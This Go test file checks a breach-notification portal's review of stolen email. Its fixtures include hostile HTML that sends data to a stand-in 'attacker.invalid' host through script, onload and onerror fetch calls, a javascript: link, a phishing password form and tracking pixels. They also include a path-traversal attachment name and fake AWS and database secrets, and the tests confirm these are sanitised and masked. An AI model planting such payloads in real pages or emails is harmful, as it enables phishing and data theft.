package app_test

import (
	"bytes"
	"context"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/breachnotify/breachnotify/notifier"
	"github.com/breachnotify/breachnotify/notifier/app/apptest"
	"github.com/jackc/pgx/v5"
)

// fakeAWSKey is an AWS access key id of the right shape that is no one's
// (gitleaks' own allowlist skips the documented EXAMPLE one).
const fakeAWSKey = "AKIAZ3MSJV4WQLPXT7NB"

// hostileHTML is a stolen HTML part that tries everything a page could
// do to reach out or run; attacker is the address it would reach.
func hostileHTML(attacker string) string {
	return `<html><head><meta http-equiv="refresh" content="0;url=` + attacker + `/refresh">
<link rel="stylesheet" href="` + attacker + `/sheet.css">
<style>@import url("` + attacker + `/import.css"); body { background: url(` + attacker + `/bg.png) }</style>
<script>document.title = "pwned"; fetch("` + attacker + `/script")</script></head>
<body onload="fetch('` + attacker + `/onload')">
<p style="background-image: url(` + attacker + `/style.png)">Dear customer, please <a href="` + attacker + `/login">log in here</a> or <a href="javascript:fetch('` + attacker + `/js')">here</a>.</p>
<img src="` + attacker + `/pixel.gif" alt="tracking pixel" onerror="fetch('` + attacker + `/onerror')">
<iframe src="` + attacker + `/frame"></iframe>
<form action="` + attacker + `/form" method="post"><input name="password"><button>Send</button></form>
<object data="` + attacker + `/object"></object><svg><image href="` + attacker + `/svg.png"/></svg>
<p>Key: ` + fakeAWSKey + `</p>
</body></html>`
}

// stolenMultipart is a multipart message with a text part carrying an
// AWS key, the hostile HTML part and a file.
func stolenMultipart(from, to, subject, attacker string) string {
	return "From: " + from + "\r\nTo: " + to + "\r\nSubject: " + subject + "\r\nDate: Wed, 4 Nov 2026 09:30:00 +0000\r\n" +
		"Message-ID: <" + strings.ReplaceAll(subject, " ", ".") + "@mail.example>\r\nMIME-Version: 1.0\r\n" +
		"Content-Type: multipart/mixed; boundary=\"outer\"\r\n\r\n" +
		"--outer\r\nContent-Type: multipart/alternative; boundary=\"alt\"\r\n\r\n" +
		"--alt\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nHello,\r\nthe key is " + fakeAWSKey + " for the build.\r\nSee https://evil.example/path\r\n" +
		"--alt\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + hostileHTML(attacker) + "\r\n--alt--\r\n" +
		"--outer\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; filename=\"../../invoice<1>.pdf.exe\"\r\n\r\n%PDF-1.4 not really\r\n" +
		"--outer--\r\n"
}

// importMail imports stolen messages into incident slug and returns
// their refs by subject.
func importMail(t *testing.T, e *apptest.Env, slug string, msgs ...string) map[string]string {
	t.Helper()
	ctx := context.Background()
	var mbox bytes.Buffer
	for _, m := range msgs {
		mbox.WriteString("From MAILER-DAEMON Tue Nov  3 10:00:00 2026\n" + strings.ReplaceAll(m, "\r\n", "\n") + "\n")
	}
	if imp, err := e.Client.ImportEvidence(ctx, slug, "stolen.mbox", bytes.NewReader(mbox.Bytes()), int64(mbox.Len())); err != nil || imp.Stored != int64(len(msgs)) {
		t.Fatalf("import: %+v %v", imp, err)
	}
	refs := map[string]string{}
	rows, err := e.App.Pool.Query(ctx, `SELECT subject, incident_id, sha256 FROM evidence_messages`)
	if err != nil {
		t.Fatal(err)
	}
	defer rows.Close()
	for rows.Next() {
		var subject string
		var inc int64
		var sha []byte
		if err := rows.Scan(&subject, &inc, &sha); err != nil {
			t.Fatal(err)
		}
		refs[subject] = fmt.Sprintf("%d-%s", inc, hex.EncodeToString(sha))
	}
	return refs
}

// mailScenario imports stolen mail into incident slug: one message
// between contoso and fabrikam (hostile HTML, a key, a file), one of each
// alone. It returns the refs of the shared message and of each one's own.
func mailScenario(t *testing.T, e *apptest.Env, slug, attacker string) (shared string, own map[string]string) {
	t.Helper()
	refs := importMail(t, e, slug,
		stolenMultipart("cfo@contoso.example", "Jonas <it-leitung@fabrikam.example>", "Build credentials", attacker),
		stolen("cfo@contoso.example", "bank@elsewhere.example", "Contoso only"),
		stolen("it-leitung@fabrikam.example", "vendor@elsewhere.example", "Fabrikam only"))
	return refs["Build credentials"], map[string]string{"contoso": refs["Contoso only"], "fabrikam": refs["Fabrikam only"]}
}

// TestPortalMailReview reviews stolen mail end to end as a member of each
// organization: the list shows its own and the shared message only; the
// message page masks the key, shows headers as text and the HTML in a
// sandboxed frame from a CSP that loads nothing; a reveal shows the key;
// downloads come behind a warning, as octet-stream attachments; every
// use is on the organization's activity page and in the staff API, and
// neither organization sees the other's.
func TestPortalMailReview(t *testing.T) {
	t.Parallel()
	e := apptest.Start(t, apptest.Options{Configure: withEvidenceKey(t)})
	slug := e.LoadSample(t, "mail")
	shared, own := mailScenario(t, e, slug, "http://attacker.invalid")
	contoso, fabrikam := newVisitor(t, e), newVisitor(t, e)
	contoso.signInWithFactor("soc@contoso.example")
	fabrikam.signInWithFactor("sicherheit@fabrikam.example")

	// The list: own and shared, never the other's; searches narrow it.
	for _, c := range []struct {
		v          *visitor
		query      string
		want, deny []string
	}{
		{contoso, "", []string{"Build credentials", "Contoso only"}, []string{"Fabrikam only"}},
		{fabrikam, "", []string{"Build credentials", "Fabrikam only"}, []string{"Contoso only"}},
		{contoso, "?secrets=1", []string{"Build credentials"}, []string{"Contoso only"}},
		{contoso, "?subject=ONLY", []string{"Contoso only"}, []string{"Build credentials"}},
		{contoso, "?participant=fabrikam.example", []string{"Build credentials"}, []string{"Contoso only"}},
		{contoso, "?participant=bank%40elsewhere.example", []string{"Contoso only"}, []string{"Build credentials"}},
		{contoso, "?from=2026-11-04&to=2026-11-04", []string{"Build credentials"}, []string{"Contoso only"}},
	} {
		st, page, _ := c.v.do("GET", "/portal/messages"+c.query, nil)
		if st != 200 {
			t.Fatalf("list %s: %d\n%s", c.query, st, page)
		}
		for _, w := range c.want {
			if !strings.Contains(page, w) {
				t.Errorf("list %s lacks %q", c.query, w)
			}
		}
		for _, d := range c.deny {
			if strings.Contains(page, d) {
				t.Errorf("list %s shows %q", c.query, d)
			}
		}
	}

	// The message page.
	st, page, h := contoso.do("GET", "/portal/messages/"+shared, nil)
	if st != 200 {
		t.Fatalf("message: %d\n%s", st, page)
	}
	if strings.Contains(page, fakeAWSKey) || !strings.Contains(page, "AKI…7NB") {
		t.Errorf("the key is not masked on the page")
	}
	if csp := h.Get("Content-Security-Policy"); !strings.Contains(csp, "frame-src 'self'") || !strings.Contains(csp, "default-src 'none'") {
		t.Errorf("message page CSP %q", csp)
	}
	for _, want := range []string{`<iframe class="mail" src="/portal/messages/` + shared + `/html" sandbox`, "hxxps://evil[.]example/path",
		"it-leitung@fabrikam[.]example", "invoice&lt;1&gt;.pdf[.]exe", "Download the original message"} {
		if !strings.Contains(page, want) {
			t.Errorf("message page lacks %q", want)
		}
	}
	if strings.Contains(page, "Fabrikam GmbH") {
		t.Error("the message page names the other organization")
	}

	// Its HTML: sanitised, masked, under a CSP that loads and runs nothing.
	st, frame, h := contoso.do("GET", "/portal/messages/"+shared+"/html", nil)
	if st != 200 {
		t.Fatalf("frame: %d", st)
	}
	csp := h.Get("Content-Security-Policy")
	for _, want := range []string{"default-src 'none'", "sandbox", "frame-ancestors 'self'"} {
		if !strings.Contains(csp, want) {
			t.Errorf("frame CSP %q lacks %q", csp, want)
		}
	}
	if h.Get("X-Frame-Options") != "SAMEORIGIN" {
		t.Errorf("frame X-Frame-Options %q", h.Get("X-Frame-Options"))
	}
	for _, bad := range []string{"<script", "onload", "onerror", "<a ", "href=", "src=", "<img", "<iframe", "<form", "<link", "<meta http", "url(", "@import", "attacker.invalid", fakeAWSKey} {
		if strings.Contains(strings.ToLower(frame), strings.ToLower(bad)) {
			t.Errorf("frame holds %q:\n%s", bad, frame)
		}
	}
	for _, want := range []string{"hxxp://attacker[.]invalid/login", "tracking pixel", "AKI…7NB"} {
		if !strings.Contains(frame, want) {
			t.Errorf("frame lacks %q:\n%s", want, frame)
		}
	}

	// Reveal: a form with the session's token; the key in clear, once.
	if st, _, _ := contoso.do("POST", "/portal/messages/"+shared+"/reveal", url.Values{"finding": {"0"}, "csrf": {"9999999999.AAAA"}}); st != http.StatusForbidden {
		t.Errorf("reveal with a forged token: %d, want 403", st)
	}
	contoso.do("GET", "/portal/messages/"+shared, nil)
	st, page, _ = contoso.do("POST", "/portal/messages/"+shared+"/reveal", url.Values{"finding": {"0"}, "csrf": {contoso.csrf()}})
	if st != 200 || !strings.Contains(page, fakeAWSKey) {
		t.Errorf("reveal: %d, key shown: %v", st, strings.Contains(page, fakeAWSKey))
	}

	// Downloads: a warning page with a form, then the file.
	st, page, _ = contoso.do("GET", "/portal/messages/"+shared+"/attachments/0", nil)
	if st != 200 || !strings.Contains(page, "may be dangerous") {
		t.Fatalf("attachment warning: %d\n%s", st, page)
	}
	st, body, h := contoso.do("POST", "/portal/messages/"+shared+"/attachments/0", url.Values{"csrf": {contoso.csrf()}})
	if st != 200 || body != "%PDF-1.4 not really" {
		t.Errorf("attachment: %d %q", st, body)
	}
	if h.Get("Content-Type") != "application/octet-stream" || h.Get("X-Content-Type-Options") != "nosniff" ||
		h.Get("Content-Disposition") != `attachment; filename="invoice_1_.pdf.exe.download"` || !strings.Contains(h.Get("Content-Security-Policy"), "sandbox") {
		t.Errorf("attachment headers %v", h)
	}
	contoso.do("GET", "/portal/messages/"+shared+"/original", nil)
	st, body, h = contoso.do("POST", "/portal/messages/"+shared+"/original", url.Values{"csrf": {contoso.csrf()}})
	if st != 200 || !strings.HasPrefix(body, "From: cfo@contoso.example") || !strings.HasPrefix(h.Get("Content-Disposition"), "attachment;") {
		t.Errorf("original: %d %q %q", st, body[:min(len(body), 40)], h.Get("Content-Disposition"))
	}

	// The exposure item made of the message links to it.
	e.LaunchInitial(t, slug)
	var item int64
	if err := e.App.Pool.QueryRow(context.Background(), `SELECT x.item_id FROM evidence_exposures x JOIN organizations o ON o.id = x.organization_id
		JOIN evidence_messages m ON m.incident_id = x.incident_id AND m.sha256 = x.sha256
		WHERE o.ref = 'contoso' AND m.subject = 'Build credentials'`).Scan(&item); err != nil {
		t.Fatal(err)
	}
	if st, page, _ := contoso.do("GET", fmt.Sprintf("/portal/items/%d", item), nil); st != 200 || !strings.Contains(page, `href="/portal/messages/`+shared+`"`) {
		t.Errorf("item %d: %d, no link to its message\n%s", item, st, page)
	}

	// The record: contoso's uses on contoso's page, not on fabrikam's.
	fabrikam.do("GET", "/portal/messages/"+own["fabrikam"], nil)
	st, page, _ = contoso.do("GET", "/portal/activity", nil)
	if st != 200 || !strings.Contains(page, "soc@contoso[.]example") || !strings.Contains(page, "reveal secret #0") ||
		!strings.Contains(page, "download attachment #0") || !strings.Contains(page, "Build credentials") || strings.Contains(page, "sicherheit@") {
		t.Errorf("contoso's activity: %d\n%s", st, page)
	}
	_, page, _ = fabrikam.do("GET", "/portal/activity", nil)
	if strings.Contains(page, "soc@contoso") || !strings.Contains(page, "Fabrikam only") {
		t.Errorf("fabrikam's activity shows contoso's or lacks its own:\n%s", page)
	}
	req, _ := http.NewRequest("GET", e.App.URL()+"/api/v1/organizations/contoso/evidence-access?limit=100", nil)
	req.Header.Set("Authorization", "Bearer "+e.Key)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var list notifier.ListResult[notifier.EvidenceAccess]
	if err := json.NewDecoder(resp.Body).Decode(&list); err != nil || resp.StatusCode != 200 {
		t.Fatalf("evidence-access API: %d %v", resp.StatusCode, err)
	}
	actions := map[string]int{}
	for _, a := range list.Items {
		if a.ContactEmail != "soc@contoso.example" {
			t.Errorf("contoso's record holds %+v", a)
		}
		actions[a.Action+" "+a.What]++
	}
	if actions["view message"] < 2 || actions["view html"] != 1 || actions["reveal secret"] != 1 || actions["download attachment"] != 1 || actions["download original"] != 1 {
		t.Errorf("contoso's record: %v", actions)
	}
}

// TestPortalRevealsSecretsBeyondTheBody: secrets found in a header and in
// a configuration file attached to the stolen message are listed masked
// on its page, and each can be revealed, found again in the part it was
// found in; the header line shown is masked too.
func TestPortalRevealsSecretsBeyondTheBody(t *testing.T) {
	t.Parallel()
	e := apptest.Start(t, apptest.Options{Configure: withEvidenceKey(t)})
	slug := e.LoadSample(t, "beyond")
	const (
		headerSecret = "Autumn2026!Hdr"
		fileSecret   = "Sup3rS3cretDb"
	)
	msg := "From: cfo@contoso.example\r\nTo: Deploy password: " + headerSecret + " <ops@elsewhere.example>\r\nSubject: deploy\r\n" +
		"Date: Wed, 4 Nov 2026 09:30:00 +0000\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n" +
		"--b1\r\nContent-Type: text/plain\r\n\r\nsee the file\r\n" +
		"--b1\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"prod.env\"\r\n\r\n" +
		"DATABASE_URL=postgres://app:" + fileSecret + "@db.contoso.example:5432/app\r\n--b1--\r\n"
	ref := importMail(t, e, slug, msg)["deploy"]
	contoso := newVisitor(t, e)
	contoso.signInWithFactor("soc@contoso.example")
	st, page, _ := contoso.do("GET", "/portal/messages/"+ref, nil)
	if st != 200 || strings.Contains(page, headerSecret) || strings.Contains(page, fileSecret) {
		t.Fatalf("message page: %d, header secret shown %v, file secret shown %v", st, strings.Contains(page, headerSecret), strings.Contains(page, fileSecret))
	}
	var seqs []string
	rows, err := e.App.Pool.Query(context.Background(), `SELECT seq::text FROM evidence_findings ORDER BY seq`)
	if err != nil {
		t.Fatal(err)
	}
	if seqs, err = pgx.CollectRows(rows, pgx.RowTo[string]); err != nil || len(seqs) != 2 {
		t.Fatalf("findings %q, %v", seqs, err)
	}
	for i, want := range []string{headerSecret, fileSecret} {
		contoso.do("GET", "/portal/messages/"+ref, nil)
		st, page, _ = contoso.do("POST", "/portal/messages/"+ref+"/reveal", url.Values{"finding": {seqs[i]}, "csrf": {contoso.csrf()}})
		if st != 200 || !strings.Contains(page, want) {
			t.Errorf("reveal of finding %s: %d, %q shown: %v", seqs[i], st, want, strings.Contains(page, want))
		}
	}
}
